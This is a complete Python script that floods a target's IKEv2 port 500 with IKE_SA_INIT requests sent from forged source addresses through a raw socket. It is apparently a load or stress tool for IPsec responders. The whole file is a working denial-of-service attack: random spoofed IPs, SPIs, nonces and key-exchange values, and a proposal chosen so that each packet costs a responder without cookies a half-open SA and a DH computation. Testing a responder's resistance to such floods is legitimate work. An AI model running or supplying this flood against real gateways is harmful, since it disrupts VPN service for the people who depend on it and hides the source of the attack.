#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-2-Clause
"""An IKE_SA_INIT flood from spoofed source addresses (raw IPv4 socket).

ike_flood.py DST SRC_PREFIX16 SECONDS RATE
  Sends IKEv2 IKE_SA_INIT requests to DST:500 for SECONDS at about RATE
  per second, each from a random address of SRC_PREFIX16 (e.g. 172.16:
  172.16.0.0/16) and port 500, with a random initiator SPI, nonce and KE.
  The proposal is AES-CBC-128, PRF/INTEG HMAC-SHA2-256, DH 31 (Curve25519),
  what a responder configured for it would accept: without cookies, each
  one would cost it a half-open SA and a DH computation. Prints the number
  sent, also when stopped early by SIGTERM.
"""
import os, random, signal, socket, struct, sys, time


def transform(ttype, tid, keylen=None, last=False):
    attrs = struct.pack("!HH", 0x800E, keylen) if keylen else b""
    return struct.pack("!BBHBBH", 0 if last else 3, 0, 8 + len(attrs),
                       ttype, 0, tid) + attrs


def ike_sa_init(spi):
    trans = (transform(1, 12, 128) + transform(2, 5) + transform(3, 12) +
             transform(4, 31, last=True))
    prop = struct.pack("!BBHBBBB", 0, 0, 8 + len(trans), 1, 1, 0, 4) + trans
    sa = struct.pack("!BBH", 34, 0, 4 + len(prop)) + prop       # next: KE
    ke = struct.pack("!BBHHH", 40, 0, 8 + 32, 31, 0) + os.urandom(32)
    nonce = struct.pack("!BBH", 0, 0, 4 + 32) + os.urandom(32)
    body = sa + ke + nonce
    hdr = struct.pack("!QQBBBBII", spi, 0, 33, 0x20, 34, 0x08, 0,
                      28 + len(body))
    return hdr + body


def packet(src, dst, payload):
    udp = struct.pack("!HHHH", 500, 500, 8 + len(payload), 0) + payload
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64,
                     socket.IPPROTO_UDP, 0, socket.inet_aton(src),
                     socket.inet_aton(dst))
    return ip + udp


def main():
    if len(sys.argv) != 5:
        sys.exit(__doc__)
    dst, pfx, secs, rate = sys.argv[1], sys.argv[2], float(sys.argv[3]), \
        int(sys.argv[4])
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
    sent = [0]
    try:
        flood(s, dst, pfx, secs, rate, sent)
    finally:
        print(sent[0], flush=True)


def flood(s, dst, pfx, secs, rate, sent):
    start = time.monotonic()
    while True:
        elapsed = time.monotonic() - start
        if elapsed >= secs:
            return
        due = int(elapsed * rate) + 1
        while sent[0] < due:
            src = "%s.%d.%d" % (pfx, random.randrange(256),
                                random.randrange(1, 255))
            spi = random.getrandbits(64) | 1
            try:
                s.sendto(packet(src, dst, ike_sa_init(spi)), (dst, 0))
                sent[0] += 1
            except OSError:
                pass
        time.sleep(0.01)


if __name__ == "__main__":
    main()
